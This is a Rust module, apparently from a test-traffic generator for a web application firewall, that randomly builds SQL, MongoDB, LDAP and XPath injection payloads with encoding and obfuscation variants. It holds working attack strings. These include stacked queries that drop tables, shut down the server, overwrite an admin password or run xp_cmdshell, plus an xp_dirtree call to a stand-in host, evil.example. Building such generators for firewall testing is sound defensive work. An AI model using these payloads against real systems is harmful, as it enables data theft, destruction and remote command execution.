//! Attacks on query languages: SQL, MongoDB, LDAP, XPath.

use medward_waf::AttackClass;

use super::super::attack::{AttackGrammar, payload};
use super::super::encode::Encoding;
use super::super::place::Place;
use super::super::rng::Rng;

const SQL: &[Encoding] = &[
    Encoding::Plain,
    Encoding::Percent,
    Encoding::DoublePercent,
    Encoding::PercentU,
    Encoding::Comment,
    Encoding::Case,
    Encoding::Whitespace,
    Encoding::Combined,
    Encoding::Base64,
    Encoding::JsonEscape,
    Encoding::HtmlEntity,
];
/// For payloads whose literals a database also reads as numbers.
const SQL_AND_HEX: &[Encoding] = &[
    Encoding::Plain,
    Encoding::Percent,
    Encoding::DoublePercent,
    Encoding::Comment,
    Encoding::Case,
    Encoding::Whitespace,
    Encoding::Combined,
    Encoding::Base64,
    Encoding::JsonEscape,
    Encoding::Hex,
];
const PLAIN: &[Encoding] =
    &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent, Encoding::Base64, Encoding::JsonEscape];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload("sqli-boolean", AttackClass::Sqli, 110, boolean, Place::PARAMETERS, SQL_AND_HEX),
    payload("sqli-union", AttackClass::Sqli, 110, union, Place::PARAMETERS, SQL),
    payload("sqli-time", AttackClass::Sqli, 90, time, Place::PARAMETERS, SQL),
    payload("sqli-error-mysql", AttackClass::Sqli, 70, error_mysql, Place::PARAMETERS, SQL),
    payload("sqli-stacked", AttackClass::Sqli, 70, stacked, Place::PARAMETERS, SQL),
    payload(
        "mongo-operators",
        AttackClass::Sqli,
        40,
        mongo,
        &[Place::Query, Place::Form, Place::Json],
        &[Encoding::Plain, Encoding::JsonEscape, Encoding::Percent, Encoding::DoublePercent],
    ),
    payload("ldap-filter", AttackClass::Ldap, 45, ldap, Place::INPUTS, PLAIN),
    payload("xpath-tautology", AttackClass::Xpath, 40, xpath, Place::INPUTS, PLAIN),
];

/// What closes the literal or the parentheses that the value stands in.
fn breakout(rng: &mut Rng) -> String {
    let number = rng.between(1, 9999);
    match rng.below(8) {
        0 | 1 => number.to_string(),
        2 => format!("{number}'"),
        3 => format!("{}'", rng.letters(4)),
        4 => format!("{number}\""),
        5 => format!("{number})"),
        6 => format!("{number}')"),
        _ => format!("{}%'", rng.letters(3)),
    }
}

fn tail(rng: &mut Rng) -> &'static str {
    rng.pick(&["-- -", "-- ", "#", "-- x", ";-- ", "/*"])
}

fn boolean(rng: &mut Rng) -> Vec<u8> {
    let n = rng.between(2, 9999);
    let word = rng.letters(4);
    match rng.below(14) {
        0 => format!("{n}' OR '1'='1"),
        1 => format!("{n} OR {n}={n}"),
        2 => format!("{n}' AND '{word}'='{word}"),
        3 => format!("{n} AND {n}={}", n + 7),
        4 => format!("{} OR 1=1{}", breakout(rng), tail(rng)),
        5 => format!("{n}') OR ('{word}'='{word}"),
        6 => format!("{n}\" OR \"{word}\"=\"{word}"),
        7 => format!("{n}' OR {n}>{} {}", n - 1, tail(rng)),
        8 => format!("admin' AND {n} BETWEEN {} AND {} {}", n - 1, n + 1, tail(rng)),
        9 => format!("{n}' OR '{word}' LIKE '{}%", &word[..1]),
        10 => format!("{n}' OR NOT {n}={}{}", n + 1, tail(rng)),
        11 => format!("{word}' OR EXISTS(SELECT 1 FROM users){}", tail(rng)),
        12 => format!("-{n}' OR {n} IN ({n}) {}", tail(rng)),
        _ => format!("{n})) OR (({n}={n}"),
    }
    .into_bytes()
}

fn union(rng: &mut Rng) -> Vec<u8> {
    let secrets = [
        "user()",
        "version()",
        "database()",
        "@@version",
        "password",
        "login",
        "table_name",
        "group_concat(table_name)",
        "CONCAT(login,0x3a,password)",
        "current_user",
        "banner",
    ];
    let columns: Vec<String> = (0..rng.between(1, 9))
        .map(|at| match rng.below(3) {
            0 => "NULL".to_owned(),
            1 => (at + 1).to_string(),
            _ => rng.pick(&secrets).to_owned(),
        })
        .collect();
    let from = rng.pick(&[
        "",
        " FROM users",
        " FROM information_schema.tables",
        " FROM dual",
        " FROM admin WHERE id=1",
        " FROM mysql.user LIMIT 1",
        " FROM information_schema.columns WHERE table_schema=database()",
        " FROM sysobjects WHERE xtype='U'",
    ]);
    let keyword =
        rng.pick(&["UNION SELECT", "UNION ALL SELECT", "union select", "UNION DISTINCT SELECT", "uNiOn aLl SeLeCt"]);
    format!("{}{} {keyword} {}{from}{}", rng.pick(&["", "-"]), breakout(rng), columns.join(","), tail(rng)).into_bytes()
}

fn time(rng: &mut Rng) -> Vec<u8> {
    let seconds = rng.between(2, 20);
    let (n, word) = (rng.between(1000, 9999), rng.letters(4));
    let start = breakout(rng);
    let end = tail(rng);
    match rng.below(12) {
        0 => format!("{start} AND SLEEP({seconds}){end}"),
        1 => format!("{start} AND (SELECT {n} FROM (SELECT(SLEEP({seconds}))){word}){end}"),
        2 => format!("{start} OR IF({n}={n},SLEEP({seconds}),0){end}"),
        3 => format!("{start};WAITFOR DELAY '0:0:{seconds}'{end}"),
        4 => format!("{start} WAITFOR DELAY '0:0:{seconds}'{end}"),
        5 => format!("{start};SELECT PG_SLEEP({seconds}){end}"),
        6 => format!("{start} AND {n}=(SELECT {n} FROM PG_SLEEP({seconds})){end}"),
        7 => format!("{start} AND {n}=BENCHMARK({seconds}000000,MD5(0x{})){end}", rng.hex(8)),
        8 => format!("{start} AND {n}=DBMS_PIPE.RECEIVE_MESSAGE('{word}',{seconds}){end}"),
        9 => format!("{start} RLIKE SLEEP({seconds}){end}"),
        10 => format!("{start} AND ELT({n}={n},SLEEP({seconds})){end}"),
        _ => format!("(SELECT * FROM (SELECT(SLEEP({seconds}))){word})"),
    }
    .into_bytes()
}

fn error_mysql(rng: &mut Rng) -> Vec<u8> {
    let target = rng.pick(&[
        "version()",
        "user()",
        "(SELECT password FROM users LIMIT 1)",
        "database()",
        "(SELECT table_name FROM information_schema.tables LIMIT 1)",
        "@@datadir",
    ]);
    let (n, word) = (rng.between(1000, 9999), rng.letters(3));
    let (start, end) = (breakout(rng), tail(rng));
    match rng.below(7) {
        0 => format!("{start} AND EXTRACTVALUE({n},CONCAT(0x5c,{target})){end}"),
        1 => format!("{start} AND UPDATEXML({n},CONCAT(0x7e,{target},0x7e),1){end}"),
        2 => format!("{start} AND (SELECT {n} FROM(SELECT COUNT(*),CONCAT({target},FLOOR(RAND(0)*2)){word} FROM INFORMATION_SCHEMA.PLUGINS GROUP BY {word})a){end}"),
        3 => format!("{start} AND GTID_SUBSET(CONCAT(0x7171,{target}),{n}){end}"),
        4 => format!("{start} AND EXP(~(SELECT * FROM (SELECT {target}){word})){end}"),
        5 => format!("{start} OR JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x71,{target})) USING utf8))){end}"),
        _ => format!("{start} PROCEDURE ANALYSE(EXTRACTVALUE({n},CONCAT(0x5c,{target})),1){end}"),
    }
    .into_bytes()
}

fn stacked(rng: &mut Rng) -> Vec<u8> {
    let start = breakout(rng);
    let (word, n) = (rng.letters(5), rng.between(1, 999));
    let statement = match rng.below(11) {
        0 => format!("DROP TABLE {word}"),
        1 => format!("DELETE FROM {word} WHERE id>{n}"),
        2 => format!("UPDATE users SET password='{word}' WHERE login='admin'"),
        3 => format!("INSERT INTO users(login,password) VALUES('{word}','{n}')"),
        4 => format!("EXEC xp_cmdshell('{}')", rng.pick(&["whoami", "net user", "ping -n 5 192.0.2.1", "dir c:\\"])),
        5 => "EXEC sp_configure 'show advanced options',1;RECONFIGURE".to_owned(),
        6 => format!("DECLARE @a VARCHAR(99);SET @a=0x{};EXEC(@a)", rng.hex(24)),
        7 => format!("CREATE TABLE {word}(a TEXT)"),
        8 => format!("SHUTDOWN WITH NOWAIT /*{n}*/"),
        9 => format!("TRUNCATE TABLE {word}"),
        _ => format!("EXEC master..xp_dirtree '\\\\{word}.evil.example\\a'"),
    };
    format!("{start};{statement}{}", tail(rng)).into_bytes()
}

/// Operators where the application expects text: as JSON in a value, or as the name of a parameter.
fn mongo(rng: &mut Rng) -> Vec<u8> {
    let (word, n) = (rng.letters(5), rng.below(999));
    match rng.below(7) {
        0 => format!("{{\"$ne\":\"{word}\"}}"),
        1 => "{\"$gt\":\"\"}".to_owned() + &" ".repeat(rng.below(12)),
        2 => format!("{{\"$regex\":\"^{}.*\"}}", &word[..2]),
        3 => format!("{{\"$nin\":[\"{word}\",{n}]}}"),
        4 => format!("{{\"$or\":[{{\"login\":\"admin\"}},{{\"a\":{{\"$ne\":{n}}}}}]}}"),
        5 => format!("{{\"$where\":\"this.password.match(/^{}/)\"}}", &word[..1]),
        _ => format!("{{\"$exists\":true,\"$ne\":{n}}}"),
    }
    .into_bytes()
}

fn ldap(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let attribute = rng.pick(&["uid", "cn", "sAMAccountName", "mail", "userPassword"]);
    match rng.below(8) {
        0 => format!("*)({attribute}=*))(|({attribute}=*"),
        1 => format!("{word})(&))"),
        2 => format!("*)(|(objectClass=*){}", rng.pick(&["", ")", "(cn=*"])),
        3 => format!("{word}*)((|userPassword=*)"),
        4 => format!("admin)(|({attribute}={word}*"),
        5 => format!("*))(|(&({attribute}={word}"),
        6 => format!("{word})(!(&(1=0"),
        _ => format!("*)({attribute}={word}*))%00"),
    }
    .into_bytes()
}

fn xpath(rng: &mut Rng) -> Vec<u8> {
    let (word, n) = (rng.letters(4), rng.between(1, 99));
    match rng.below(8) {
        0 => format!("{word}' or '1'='1' or ''='"),
        1 => format!("' or count(/*)={n} or 'a'='"),
        2 => format!("{word}' or name()='{word}' or 'x'='y"),
        3 => format!("' or string-length(//user[position()={n}]/password)>0 or ''='"),
        4 => format!("'] | //user/*[contains(*,'{word}"),
        5 => format!("{word}'] | //* | //*['"),
        6 => format!("{n} or substring(//user[1]/password,1,1)='{}'", &word[..1]),
        _ => format!("\" or \"{word}\"=\"{word}\" or //node()[\"1\"=\"1"),
    }
    .into_bytes()
}
